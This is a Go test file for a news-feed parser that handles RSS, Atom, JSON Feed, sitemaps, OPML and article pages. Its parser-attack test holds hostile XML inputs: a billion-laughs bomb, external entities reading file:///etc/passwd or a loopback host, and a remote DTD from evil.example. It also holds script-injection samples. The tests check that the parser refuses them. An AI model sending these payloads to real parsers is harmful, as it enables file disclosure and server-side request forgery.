package document_test

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/arqam-io/arqam/pkg/feed/document"
	"github.com/arqam-io/arqam/pkg/feed/refusal"
)

var site = &url.URL{Scheme: "https", Host: "paper.example", Path: "/feed"}

func source(body string) document.Source { return document.Source{Body: []byte(body), URL: site} }

// TestParse parses one article in every format of feeds.
func TestParse(t *testing.T) {
	want := document.Entry{Key: "https://paper.example/news/1", URL: "https://paper.example/news/1", Title: "وصول 12 شاحنة",
		Teaser: "وصلت 12 شاحنة إلى الميناء.", Published: "2026-02-03T14:05:00Z"}
	for kind, body := range map[string]string{
		"rss 0.91": `<?xml version="1.0"?><rss version="0.91"><channel><title>ص</title><item><title>وصول 12 شاحنة</title><link>https://paper.example/news/1</link><description>وصلت 12 شاحنة إلى الميناء.</description><pubDate>2026-02-03T14:05:00Z</pubDate></item></channel></rss>`,
		"rss 1.0": `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="x"><title>ص</title></channel>
			<item rdf:about="https://paper.example/news/1"><title>وصول 12 شاحنة</title><link>https://paper.example/news/1</link><description>وصلت 12 شاحنة إلى الميناء.</description><dc:date>2026-02-03T14:05:00Z</dc:date></item></rdf:RDF>`,
		"rss 2.0":  `<rss version="2.0"><channel><title>ص</title><item><title><![CDATA[وصول&nbsp;12 شاحنة]]></title><link>/news/1?utm_source=rss#top</link><guid>x#0</guid><description>&lt;p&gt;وصلت &lt;b&gt;12&lt;/b&gt; شاحنة إلى الميناء.&lt;/p&gt;</description><pubDate>2026-02-03T14:05:00Z</pubDate></item></channel></rss>`,
		"atom 1.0": `<feed xmlns="http://www.w3.org/2005/Atom"><title>ص</title><entry><title type="html">وصول &lt;i&gt;12&lt;/i&gt; شاحنة</title><link rel="self" href="/x"/><link rel="alternate" href="https://PAPER.example:443/news/1"/><id>1</id><summary>وصلت 12 شاحنة إلى الميناء.</summary><updated>2026-02-03T14:05:00Z</updated></entry></feed>`,
		"json 1.1": `{"version":"https://jsonfeed.org/version/1.1","title":"ص","items":[{"id":"1","url":"https://paper.example/news/1","title":"وصول 12 شاحنة","summary":"وصلت 12 شاحنة إلى الميناء.","date_published":"2026-02-03T14:05:00Z"}]}`,
	} {
		t.Run(kind, func(t *testing.T) {
			doc, err := document.Parse(source(body))
			if err != nil {
				t.Fatal(err)
			}
			if doc.Kind != kind || len(doc.Entries) != 1 || len(doc.Refused)+len(doc.Notes) > 0 {
				t.Fatalf("%s with %d entries, refused %v, notes %v", doc.Kind, len(doc.Entries), doc.Refused, doc.Notes)
			}
			got := doc.Entries[0]
			got.Updated = ""
			if diff := cmp.Diff(want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func item(inner string) string {
	return `<rss version="2.0"><channel><title>t</title><item>` + inner + `</item></channel></rss>`
}

// TestParseText has HTML and the text that it stands for.
func TestParseText(t *testing.T) {
	for in, want := range map[string]string{
		"<![CDATA[<p>first</p><p>second &amp; last</p>]]>":     "first\n\nsecond & last",
		"<![CDATA[12&nbsp;lorries<br>came<br/>today]]>":        "12 lorries\ncame\ntoday",
		"&amp;lt;p&amp;gt;escaped twice&amp;lt;/p&amp;gt;":     "escaped twice",
		"Johnson & Sons &nbsp; Co":                             "Johnson & Sons Co",
		"5 &lt; 6":                                             "5 < 6",
		"&#1575;&#1604;&#1571;&#1585;&#1602;&#1575;&#1605; 12": "الأرقام 12",
		"<![CDATA[<script>evil()</script><style>p{}</style>12 lorries<img src=x onerror=y>]]>": "12 lorries",
		"\u200f12\u200f شاحنة \u202b(مدينة)\u202c":                                             "\u200f12\u200f شاحنة \u202b(مدينة)\u202c",
		"bad\x0bcontrol\x00 characters":                                                        "bad control  characters",
	} {
		doc, err := document.Parse(source(item("<title>t</title><description>" + in + "</description>")))
		if err != nil {
			t.Errorf("%q: %v", in, err)
			continue
		}
		if got := doc.Entries[0].Teaser; got != want {
			t.Errorf("%q gives %q, want %q", in, got, want)
		}
	}
}

func TestParseSchedule(t *testing.T) {
	doc, err := document.Parse(source(`<rss version="2.0" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"><channel><title>t</title><ttl> 90 </ttl>
<skipHours><hour>0</hour><hour>24</hour><hour>5</hour><hour>99</hour></skipHours><skipDays><day>Friday</day><day>x</day></skipDays><item><title>a</title></item></channel></rss>`))
	if err != nil {
		t.Fatal(err)
	}
	if doc.TTL != 90*time.Minute || !cmp.Equal(doc.SkipHours, []int{0, 5}) || !cmp.Equal(doc.SkipDays, []time.Weekday{time.Friday}) {
		t.Errorf("%v %v %v", doc.TTL, doc.SkipHours, doc.SkipDays)
	}
	doc, err = document.Parse(source(`<rss version="2.0" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"><channel><title>t</title><sy:updatePeriod>daily</sy:updatePeriod><sy:updateFrequency>4</sy:updateFrequency></channel></rss>`))
	if err != nil || doc.TTL != 6*time.Hour {
		t.Errorf("%v, %v", doc, err)
	}
}

// TestParseBroken keeps the complete entries of a truncated feed.
func TestParseBroken(t *testing.T) {
	doc, err := document.Parse(source(`<rss version="2.0"><channel><title>t</title><item><title>one</title></item><item><title>two</title></item><item><title>thr`))
	if err != nil {
		t.Fatal(err)
	}
	if len(doc.Entries) != 2 || len(doc.Refused) != 1 || refusal.Of(doc.Refused[0]) != refusal.Malformed {
		t.Errorf("%d entries, refused %v", len(doc.Entries), doc.Refused)
	}
}

// TestParseTricks tries attacks of a feed on its parser.
func TestParseTricks(t *testing.T) {
	lol := `<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>` + item("<title>&b;</title>")
	for _, c := range []struct {
		name, body string
		want       refusal.Reason
	}{
		{"a billion laughs", lol, refusal.Bomb},
		{"an entity of a file", `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + item("<title>&x;</title>"), refusal.Bomb},
		{"an entity of a private host", `<!doctype r [ <!entity x system "http://127.0.0.1/"> ]>` + item("<title>&x;</title>"), refusal.Bomb},
		{"a parameter entity", `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>` + item(""), refusal.Bomb},
		{"an entity behind a comment", `<!-- <!DOCTYPE html> --><!DOCTYPE r [<!ENTITY x "y">]>` + item(""), refusal.Bomb},
		{"nesting", `<rss version="2.0"><channel>` + strings.Repeat("<a>", 100000), refusal.Bomb},
		{"nesting of a namespace", item(strings.Repeat(`<m:a xmlns:m="x">`, 5000) + strings.Repeat("</m:a>", 5000)), refusal.Bomb},
		{"nesting in a sitemap", `<urlset><url>` + strings.Repeat("<a>", 100000), refusal.Bomb},
		{"a tag without end", `<rss version="2.0"><channel><item a="` + strings.Repeat("x", 1<<20), refusal.Bomb},
		{"entries without end", `<rss version="2.0"><channel>` + strings.Repeat("<item/>", 200000), refusal.Bomb},
		{"nesting in JSON", `{"version":"https://jsonfeed.org/version/1.1","items":` + strings.Repeat("[", 1<<20), refusal.Malformed},
		{"a page", `<!DOCTYPE html><html><head><title>Access denied</title></head><body>no</body></html>`, refusal.NotFeed},
		{"a page without a doctype", `<!-- x --> <html><body>Just a moment...</body></html>`, refusal.NotFeed},
		{"plain text", `Too many connections`, refusal.NotFeed},
		{"a picture", "\x89PNG\r\n\x1a\n\x00\x00", refusal.NotFeed},
		{"nothing", ``, refusal.Empty},
		{"spaces", "  \r\n\t", refusal.Empty},
		{"NUL bytes", "\x00\x00\x00\x00", refusal.Empty},
		{"some other XML", `<?xml version="1.0"?><note><to>x</to></note>`, refusal.Malformed},
		{"some other JSON", `{"error":"quota"}`, refusal.NotFeed},
		{"a feed truncated in its first entry", `<rss version="2.0"><channel><title>t`, refusal.Malformed},
		{"gzip that is not gzip", "\x1f\x8b\x08\x00junk", refusal.Compression},
	} {
		t.Run(c.name, func(t *testing.T) {
			doc, err := document.Parse(source(c.body))
			if err == nil {
				t.Fatalf("accepted, with %d entries", len(doc.Entries))
			}
			if refusal.Of(err) != c.want {
				t.Errorf("refused as %v, want %s", err, c.want)
			}
			if strings.Contains(err.Error(), "\n") || len(err.Error()) > 400 {
				t.Errorf("the reason is not one line: %q", err)
			}
		})
	}
}

// TestParseHugeEntry rejects the huge entry and keeps the others.
func TestParseHugeEntry(t *testing.T) {
	doc, err := document.Parse(source(`<rss version="2.0"><channel><title>t</title><item><title>huge</title><description>` + strings.Repeat("word ", 400000) +
		`</description></item><item></item><item><title>small</title></item><item><title>small</title></item></channel></rss>`))
	if err != nil {
		t.Fatal(err)
	}
	if len(doc.Entries) != 1 || doc.Entries[0].Title != "small" || len(doc.Refused) != 2 || len(doc.Notes) != 1 {
		t.Errorf("entries %d, refused %v, notes %v", len(doc.Entries), doc.Refused, doc.Notes)
	}
}

func TestParseManyEntries(t *testing.T) {
	var b strings.Builder
	for i := range 6000 {
		fmt.Fprintf(&b, "<item><title>n%d</title></item>", i)
	}
	doc, err := document.Parse(source(`<rss version="2.0"><channel><title>t</title>` + b.String() + `</channel></rss>`))
	if err != nil {
		t.Fatal(err)
	}
	if len(doc.Entries) != 5000 || len(doc.Refused) != 1 || refusal.Of(doc.Refused[0]) != refusal.Bomb {
		t.Errorf("%d entries, refused %v", len(doc.Entries), doc.Refused)
	}
}

func TestParseSitemap(t *testing.T) {
	doc, err := document.Parse(source(`<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:n="http://www.google.com/schemas/sitemap-news/0.9">
<url><loc> https://paper.example/a?utm_medium=x </loc><lastmod>2026-02-04</lastmod><n:news><n:publication><n:name>P</n:name><n:language>ar</n:language></n:publication><n:publication_date>2026-02-03T10:00+03:00</n:publication_date><n:title>عنوان</n:title></n:news></url>
<url><loc>https://paper.example/b</loc></url></urlset>`))
	if err != nil {
		t.Fatal(err)
	}
	want := []document.Entry{
		{Key: "https://paper.example/a", URL: "https://paper.example/a", Title: "عنوان", Published: "2026-02-03T10:00+03:00", Updated: "2026-02-04", Lang: "ar"},
		{Key: "https://paper.example/b", URL: "https://paper.example/b"},
	}
	if diff := cmp.Diff(want, doc.Entries); diff != "" {
		t.Error(diff)
	}
	doc, err = document.Parse(source(`<sitemapindex><sitemap><loc>https://paper.example/1.xml</loc><lastmod>2026-01-01</lastmod></sitemap><sitemap><loc>https://paper.example/2.xml</loc><lastmod>2026-02-01</lastmod></sitemap></sitemapindex>`))
	if err != nil || doc.Kind != "sitemap index" || len(doc.Children) != 2 || doc.Children[0].URL != "https://paper.example/2.xml" {
		t.Errorf("%+v, %v", doc, err)
	}
}

func TestCanonical(t *testing.T) {
	for in, want := range map[string]string{
		"https://www.Paper.example:443/news/1?traffic_source=rss":      "https://www.paper.example/news/1",
		"http://paper.example:80/news/1#comments":                      "http://paper.example/news/1",
		"https://paper.example/a?id=7&utm_source=x&UTM_Campaign=y&b=2": "https://paper.example/a?id=7&b=2",
		"https://paper.example/a?at_medium=RSS&at_campaign=rss":        "https://paper.example/a",
		"https://paper.example":                                        "https://paper.example/",
		"https://paper.example/أخبار":                                  "https://paper.example/%D8%A3%D8%AE%D8%A8%D8%A7%D8%B1",
		"https://paper.example/%d8%a3%d8%ae%d8%a8%d8%a7%d8%b1":         "https://paper.example/%D8%A3%D8%AE%D8%A8%D8%A7%D8%B1",
		"\u200fhttps://paper.example/a\u200e":                          "https://paper.example/a",
		"/a/b":                                                         "https://paper.example/a/b",
		"//other.example/a":                                            "https://other.example/a",
		"https://paper.example/#!/story/7":                             "https://paper.example/#!/story/7",
		"https://موقع.example/":                                        "https://xn--4gbrim.example/",
		"mailto:a@paper.example":                                       "",
		"javascript:x":                                                 "",
		"http://a:b@paper.example/":                                    "",
		"":                                                             "",
	} {
		if got := document.Canonical(in, site); got != want {
			t.Errorf("%q is %q, want %q", in, got, want)
		}
	}
}

func TestHonoured(t *testing.T) {
	page := &url.URL{Scheme: "https", Host: "www.paper.example", Path: "/news/1", RawQuery: "amp=1"}
	for claim, want := range map[string]string{
		"https://paper.example/news/one": "https://paper.example/news/one",
		"/news/one?utm_source=x":         "https://www.paper.example/news/one",
		"https://victim.example/news/1":  "https://www.paper.example/news/1",
		"https://paper.example/":         "https://www.paper.example/news/1",
		"":                               "https://www.paper.example/news/1",
		"javascript:x":                   "https://www.paper.example/news/1",
	} {
		if got := document.Honoured(claim, page); got != want {
			t.Errorf("a page that claims %q is %q, want %q", claim, got, want)
		}
	}
}

const articlePage = `<!DOCTYPE html><html lang="ar"><head><title>وصول الشاحنات | الصحيفة</title><meta property="article:published_time" content="2026-02-03T14:05:00+03:00">
<link rel="canonical" href="/news/1"><link rel="alternate" type="application/rss+xml" title="الأخبار" href="/rss.xml"></head><body>
<nav><a href="/">الرئيسية</a> <a href="/sport">رياضة</a> <a href="/weather">طقس 30 درجة</a></nav><article><h1>وصول الشاحنات</h1>
<p>وصلت 12 شاحنة محملة بالمساعدات إلى الميناء صباح الثلاثاء، بحسب ما أعلنته الهيئة العامة للموانئ في بيان مقتضب نشرته على موقعها.</p>
<p>وقال المتحدث باسم الهيئة، إن القافلة تحمل 260 طنا من الدقيق والأدوية، وإنها ستوزع على المخيمات القريبة من المدينة خلال الأيام المقبلة.</p>
<p>وأضاف أن عشرين شاحنة أخرى تنتظر عند المعبر منذ أسبوع، بعد أن أغلقت الطريق الساحلية بسبب الأمطار الغزيرة التي شهدتها المنطقة.</p></article>
<footer>جميع الحقوق محفوظة 2026</footer></body></html>`

func TestReadPage(t *testing.T) {
	at := &url.URL{Scheme: "https", Host: "paper.example", Path: "/news/1", RawQuery: "utm_source=x"}
	page, err := document.ReadPage(document.Source{Body: []byte(articlePage), URL: at})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{"وصلت 12 شاحنة", "260 طنا", "عشرين شاحنة"} {
		if !strings.Contains(page.Text, s) {
			t.Errorf("the text lacks %q", s)
		}
	}
	for _, s := range []string{"30 درجة", "الحقوق", "الرئيسية"} {
		if strings.Contains(page.Text, s) {
			t.Errorf("the text has %q from outside the article", s)
		}
	}
	page.Text = ""
	want := &document.Page{Title: "وصول الشاحنات | الصحيفة", Canonical: "https://paper.example/news/1", Published: "2026-02-03T14:05:00+03:00", Lang: "ar",
		Feeds: []document.Link{{URL: "https://paper.example/rss.xml", Title: "الأخبار"}}}
	if !strings.HasPrefix(page.Title, "وصول الشاحنات") {
		t.Errorf("title %q", page.Title)
	}
	page.Title = want.Title
	if diff := cmp.Diff(want, page); diff != "" {
		t.Error(diff)
	}
}

func TestReadPageTricks(t *testing.T) {
	for name, body := range map[string]string{
		"nesting":  "<html><body>" + strings.Repeat("<div>", 100000),
		"elements": "<html><body>" + strings.Repeat("<p>x</p>", 60000),
	} {
		page, err := document.ReadPage(source(body))
		if refusal.Of(err) != refusal.Bomb {
			t.Errorf("%s: %+v, %v", name, page, err)
		}
	}
}

// TestFeeds finds feeds that the page links to without declaring them.
func TestFeeds(t *testing.T) {
	page, err := document.ReadPage(source(`<html><body><a href="/about">x</a><a href="/ar/rss.xml">خلاصات</a><a href="https://paper.example/feed/">all</a></body></html>`))
	if err != nil {
		t.Fatal(err)
	}
	want := []document.Link{{URL: "https://paper.example/ar/rss.xml", Title: "خلاصات"}, {URL: "https://paper.example/feed/", Title: "all"}}
	if diff := cmp.Diff(want, page.Feeds); diff != "" {
		t.Error(diff)
	}
}

func TestReadOPML(t *testing.T) {
	got, err := document.ReadOPML(source(`<?xml version="1.0" encoding="UTF-8"?><opml version="2.0"><head><title>x</title></head><body>
<outline text="اقتصاد"><outline type="rss" text="الميناء" xmlUrl="https://port.example/rss" language="ar"/><outline text="inner"><outline title="Deep" text="d" xmlUrl="https://deep.example/feed"/></outline></outline>
<outline text="Top &amp; first" xmlUrl="https://top.example/atom"/></body></opml>`))
	if err != nil {
		t.Fatal(err)
	}
	want := []document.Outline{
		{Title: "الميناء", URL: "https://port.example/rss", Lang: "ar", Folders: []string{"اقتصاد"}},
		{Title: "Deep", URL: "https://deep.example/feed", Folders: []string{"اقتصاد", "inner"}},
		{Title: "Top & first", URL: "https://top.example/atom"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	for _, body := range []string{"", "<rss/>", `<!DOCTYPE o [<!ENTITY a "b">]><opml/>`, "<opml>" + strings.Repeat("<outline>", 10000)} {
		if _, err := document.ReadOPML(source(body)); err == nil {
			t.Errorf("%.40q is accepted as OPML", body)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(item("<title>a</title>")))
	f.Add([]byte(`{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1"}]}`))
	f.Add([]byte(`<urlset><url><loc>https://paper.example/a</loc></url></urlset>`))
	f.Add([]byte(articlePage))
	f.Fuzz(func(t *testing.T, body []byte) {
		doc, err := document.Parse(document.Source{Body: body, URL: site})
		if err != nil {
			if refusal.Of(err) == refusal.Internal {
				t.Errorf("%v is not a refusal", err)
			}
			return
		}
		for _, e := range doc.Entries {
			if e.URL != "" && !strings.HasPrefix(e.URL, "http") {
				t.Errorf("address %q", e.URL)
			}
		}
	})
}

func FuzzReadPage(f *testing.F) {
	f.Add([]byte(articlePage), "text/html")
	f.Add([]byte("<html><meta charset=windows-1256><article><p>\xe6\xd5\xe1\xca 12"), "")
	f.Add([]byte(`<link rel=canonical href="javascript:alert(1)"><link rel=canonical href="//[::1"><base href="%zz">`), "text/html; charset=utf-16")
	f.Add([]byte(strings.Repeat("<div>", 600)), "text/html")
	f.Fuzz(func(t *testing.T, body []byte, kind string) {
		page, err := document.ReadPage(document.Source{Body: body, ContentType: kind, URL: site})
		if err != nil {
			if refusal.Of(err) == refusal.Internal {
				t.Errorf("%v is not a refusal", err)
			}
			return
		}
		if page.Canonical != "" && !strings.HasPrefix(page.Canonical, "http") {
			t.Errorf("address %q", page.Canonical)
		}
		if !utf8.ValidString(page.Text) || !utf8.ValidString(page.Title) {
			t.Errorf("not UTF-8: %q, %q", page.Title, page.Text)
		}
	})
}

func FuzzReadOPML(f *testing.F) {
	f.Add([]byte(`<opml><body><outline text="a"><outline xmlUrl="https://paper.example/rss" language="ar"/></outline></body></opml>`))
	f.Add([]byte(`<!DOCTYPE o [<!ENTITY a "b">]><opml><body><outline text="&a;"/></body></opml>`))
	f.Add([]byte("\xff\xfe<\x00o\x00p\x00m\x00l\x00>"))
	f.Fuzz(func(t *testing.T, body []byte) {
		feeds, err := document.ReadOPML(document.Source{Body: body, URL: site})
		if err != nil {
			if refusal.Of(err) == refusal.Internal {
				t.Errorf("%v is not a refusal", err)
			}
			return
		}
		for _, o := range feeds {
			if o.URL == "" || !utf8.ValidString(o.URL) || !utf8.ValidString(o.Title) {
				t.Errorf("outline %+v", o)
			}
		}
	})
}
